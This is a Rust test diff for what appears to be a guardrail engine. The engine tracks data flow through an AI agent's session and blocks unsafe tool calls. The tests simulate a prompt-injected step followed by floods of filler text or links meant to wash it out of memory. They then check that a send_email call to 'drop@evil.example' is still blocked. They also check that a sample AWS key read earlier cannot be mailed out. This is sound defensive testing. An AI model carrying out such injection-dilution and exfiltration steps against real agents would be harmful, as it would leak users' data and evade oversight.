@@ -99,7 +99,7 @@ fn a_flood_of_sessions_stays_bounded_and_keeps_the_recent_ones() {
 }
 
 #[test]
-fn one_session_keeps_a_bounded_number_of_bytes() {
+fn flooding_a_session_with_text_does_not_wash_out_an_injection() {
     let sessions = Arc::new(Sessions::new(SessionLimits {
         max_session_bytes: 64 * 1024,
         ..SessionLimits::default()
@@ -108,6 +108,8 @@ fn one_session_keeps_a_bounded_number_of_bytes() {
         .unwrap()
         .with_sessions(sessions.clone());
     inject(&engine, "big");
+    // 400 KB of text after it: the injected step's text is let go of, its
+    // addresses and links are kept.
     let page = "lorem ipsum dolor sit amet consectetur ".repeat(1000);
     for _ in 0..10 {
         engine
@@ -116,8 +118,58 @@ fn one_session_keeps_a_bounded_number_of_bytes() {
             ))
             .unwrap();
     }
-    // The injected step was the oldest: it made room for the newer ones.
-    assert_eq!(send(&engine, "big"), DecisionKind::Allow);
+    let d = engine
+        .evaluate(&request(json!({
+            "sessionId": "big",
+            "tool": {"name": "send_email", "arguments": {"to": "drop@evil.example"}}
+        })))
+        .unwrap();
+    assert_eq!(d.decision, DecisionKind::Block, "{d:?}");
+    assert!(
+        d.violations[0].source.is_some(),
+        "the finding still names the step: {d:?}"
+    );
+}
+
+#[test]
+fn a_session_that_cannot_keep_every_value_fails_closed_and_says_so() {
+    let sessions = Arc::new(Sessions::new(SessionLimits {
+        max_session_bytes: 16 * 1024,
+        ..SessionLimits::default()
+    }));
+    let engine = Engine::from_yaml_str(POLICY)
+        .unwrap()
+        .with_sessions(sessions.clone());
+    engine
+        .evaluate(&request(
+            json!({"sessionId": "s", "stage": "input", "content": "mail me at me@home.example"}),
+        ))
+        .unwrap();
+    // Pages of distinct links, far more than the session keeps.
+    for page in 0..40 {
+        let links: Vec<String> = (0..300)
+            .map(|i| format!("see https://site{page}-{i}.example/x for more details on this"))
+            .collect();
+        engine
+            .evaluate(&request(
+                json!({"sessionId": "s", "tool": {"name": "read_page", "output": links}}),
+            ))
+            .unwrap();
+    }
+    let send = |to: &str| {
+        engine
+            .evaluate(&request(json!({
+                "sessionId": "s",
+                "tool": {"name": "send_email", "arguments": {"to": to}}
+            })))
+            .unwrap()
+    };
+    let d = send("someone@else.example");
+    assert_eq!(d.decision, DecisionKind::Block, "{d:?}");
+    let message = d.violations[0].message.clone().unwrap_or_default();
+    assert!(message.contains("cannot trace"), "{message}");
+    // What the user named is still theirs.
+    assert_eq!(send("me@home.example").decision, DecisionKind::Allow);
 }
 
 #[test]
@@ -162,4 +214,33 @@ fn a_flow_check_on_a_session_of_100_steps_takes_microseconds() {
     }
     let each = started.elapsed() / 100;
     assert!(each.as_millis() < 20, "{each:?} per flow check");
+}
+
+#[test]
+fn sensitive_content_stays_sensitive_after_its_step_is_let_go_of() {
+    let policy = "checks:\n  - { id: keys, stage: tool_output, type: secrets, on_fail: warn }\n  - { id: no-key-out, stage: tool_use, type: flow, rule: taint, sensitive: [keys] }\n";
+    let engine = Engine::from_yaml_str(policy)
+        .unwrap()
+        .with_sessions(Arc::new(Sessions::new(SessionLimits {
+            max_session_bytes: 16 * 1024,
+            ..SessionLimits::default()
+        })));
+    engine
+        .evaluate(&request(json!({"sessionId": "t", "tool": {"name": "cat", "output": "aws_access_key_id = AKIAZ5ZJQXNVMEXAMPLF"}})))
+        .unwrap();
+    let page = "lorem ipsum dolor sit amet consectetur ".repeat(200);
+    for _ in 0..10 {
+        engine
+            .evaluate(&request(
+                json!({"sessionId": "t", "tool": {"name": "read_page", "output": page}}),
+            ))
+            .unwrap();
+    }
+    let d = engine
+        .evaluate(&request(json!({
+            "sessionId": "t",
+            "tool": {"name": "send_email", "arguments": {"to": "x@y.example", "body": "key AKIAZ5ZJQXNVMEXAMPLF"}}
+        })))
+        .unwrap();
+    assert_eq!(d.decision, DecisionKind::Block, "{d:?}");
 }
